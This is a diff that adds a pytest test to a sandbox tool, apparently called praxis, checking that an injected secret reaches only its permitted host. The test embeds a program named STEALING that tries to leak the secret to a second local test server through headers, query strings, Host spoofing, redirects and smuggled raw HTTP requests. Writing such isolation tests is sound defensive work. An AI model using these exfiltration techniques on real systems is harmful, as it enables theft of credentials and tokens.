@@ -226,3 +226,87 @@ def test_secrets_are_listed_by_name_and_removed(kept: dict[str, str]) -> None:
     without = praxis("secrets", env={**kept, **NONE})
     assert without.code == 2
     assert "this computer has no keyring for secrets" in without.err
+
+
+STEALING = """
+import base64, http.client, socket, urllib.request
+import pyodide.http
+
+NAME = "{secret:robot}"
+ENCODED = base64.b64encode(f"admin:{NAME}".encode()).decode()
+FIELDS = {"X-Token": NAME, "Authorization": f"Basic {ENCODED}", "Cookie": NAME}
+
+def asked(host, port, path, fields):
+    connection = http.client.HTTPConnection(host, port, timeout=20)
+    connection.request("POST", path, NAME, fields)
+    return connection.getresponse().read().decode()
+
+def opened(url):
+    with urllib.request.urlopen(urllib.request.Request(url, headers=FIELDS), timeout=20) as answer:
+        return answer.read().decode()
+
+def sent(host, port, *parts):
+    with socket.create_connection((host, port), timeout=20) as s:
+        for part in parts:
+            s.sendall(part)
+        return s.makefile("rb").read().decode()
+
+async def main():
+    post = b"POST / HTTP/1.1\\r\\nHost: other:OTHER\\r\\nContent-Length: %d\\r\\n\\r\\n%s"
+    post = post.replace(b"Content", b"Connection: close\\r\\nContent")
+    whole = f"http://other:OTHER/{NAME}"
+    print(asked("other", OTHER, "/", FIELDS))
+    print(asked("other", OTHER, f"/?token={NAME}", {}))
+    print(asked("other", OTHER, "/", {"Host": "robot:ROBOT", **FIELDS}))
+    print(asked("robot", ROBOT, "/", {"Host": "other:OTHER", **FIELDS}))
+    print(asked("robot", ROBOT, whole, {}))
+    print(opened("http://robot:ROBOT/away"))
+    print(pyodide.http.open_url("http://robot:ROBOT/away").read())
+    print(await (await pyodide.http.pyfetch("http://robot:ROBOT/away", headers=FIELDS)).text())
+    print(sent("other", OTHER, post % (len(NAME), NAME.encode())))
+    print(sent("other", OTHER, post[:9], post[9:] % (len(NAME), NAME.encode())))
+    print(sent("robot", ROBOT, post % (len(NAME), NAME.encode()) + post % (len(NAME), NAME.encode())))
+    print("done")
+"""
+
+
+@pytest.mark.parametrize("mode", ["thread", "process"])
+def test_no_other_instrument_and_no_program_gets_a_secret(
+    tmp_path: Path, kept: dict[str, str], mode: str
+) -> None:
+    heard: dict[str, list[str]] = {"robot": [], "other": []}
+
+    def noting(name: str, elsewhere: str) -> type[Robot]:
+        class Noting(Robot):
+            def do_GET(self) -> None:  # noqa: N802 - http.server's name
+                heard[name].append(f"{self.path} {self.headers}")
+                if self.path == "/away":
+                    self._answer(b"", {"Location": elsewhere}, status=302)
+                else:
+                    self._answer(heard[name][-1].encode())
+
+            def do_POST(self) -> None:  # noqa: N802 - http.server's name
+                body = self.rfile.read(int(self.headers["Content-Length"])).decode()
+                heard[name].append(f"{self.path} {self.headers} {body}")
+                self._answer(heard[name][-1].encode())
+
+        return Noting
+
+    with (
+        robot(None, noting("other", "")) as other,
+        robot(None, noting("robot", f"http://other:{other}/there")) as asked,
+    ):
+        program = tmp_path / "stealing.py"
+        program.write_text(STEALING.replace("ROBOT", str(asked)).replace("OTHER", str(other)))
+        ran = praxis(
+            *("run", str(program), "--exec-mode", mode),
+            *("--port", f"robot=http://127.0.0.1:{asked}?secret=robot"),
+            *("--port", f"other=http://127.0.0.1:{other}"),
+            env=kept,
+        )
+    assert ran.code == 0, ran.err
+    assert ran.out.splitlines()[-1] == "done"
+    assert any(SECRET in each for each in heard["robot"])
+    assert len(heard["other"]) == 8
+    assert not any(form in each for each in [*heard["other"], ran.out, ran.err] for form in (SECRET, ENCODED))
+    assert revealing(tmp_path / "home") == []
